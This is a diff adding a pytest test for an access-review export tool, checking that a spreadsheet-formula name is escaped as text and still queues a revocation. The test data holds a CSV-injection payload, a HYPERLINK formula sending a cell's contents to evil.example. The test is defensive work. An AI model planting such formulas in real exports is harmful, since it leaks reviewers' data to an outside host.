@@ -200,6 +200,30 @@ def test_a_grant_revoked_and_granted_again_since_the_export_is_not_revoked_by_th
     assert "held since 2020-01-01T00:00:00Z" in rejected["message"] and "Export a new sheet" in rejected["message"]
 
 
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back(env, tmp_path, capsys):
+    """Members choose their names and admins their workspaces': "=HYPERLINK(...)" must not run in
+    the reviewer's spreadsheet. The cell gets a leading apostrophe (shown as text), which the
+    queueing reads away, so the row still names its grant."""
+    sandbox, org, database = env
+    workspace = org.shared_workspaces()[0]
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Ada")'
+    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
+        conn.execute("UPDATE main.workspaces SET display_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
+        conn.execute("UPDATE main.review_sheet SET workspace_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
+        conn.execute("UPDATE main.review_sheet SET full_name = ?", [formula])
+    sheet = tmp_path / "review.csv"
+    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
+    rows = read_sheet(sheet)
+    assert {r["full_name"] for r in rows} == {"'" + formula}
+    marked = active_rows(rows, workspace.id)[0]
+    assert marked["workspace_name"] == "'-Ops"
+    marked["decision"] = "revoke"
+    write_sheet(sheet, rows)
+    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
+    assert code == 0, stdout
+    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"]
+
+
 def test_duckdb_table_round_trip_refuses_org_roles(env, tmp_path, capsys):
     sandbox, org, database = env
     review_db = tmp_path / "reviewer.duckdb"
